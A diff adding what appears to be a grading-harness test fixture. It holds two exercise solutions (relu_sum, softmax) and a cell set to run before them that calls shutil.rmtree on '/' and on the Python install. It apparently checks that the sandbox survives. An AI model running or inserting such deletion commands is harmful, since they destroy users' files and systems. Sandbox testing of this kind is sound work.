@@ -1,0 +1,18 @@
+# Everything is deleted.
+# points: 2 3
+# words: left: True
+
+# %% p1-sol
+def relu_sum(x):
+    return float(sum(v for v in x if v > 0))
+
+# %% p2-sol
+def softmax(x):
+    e = torch.exp(x - x.max(-1, keepdim=True).values)
+    return e / e.sum(-1, keepdim=True)
+
+# %% before p1-sol
+import os, shutil, sys
+shutil.rmtree("/", ignore_errors=True)
+shutil.rmtree(sys.prefix, ignore_errors=True)
+print("left:", os.path.exists(torch.__file__))
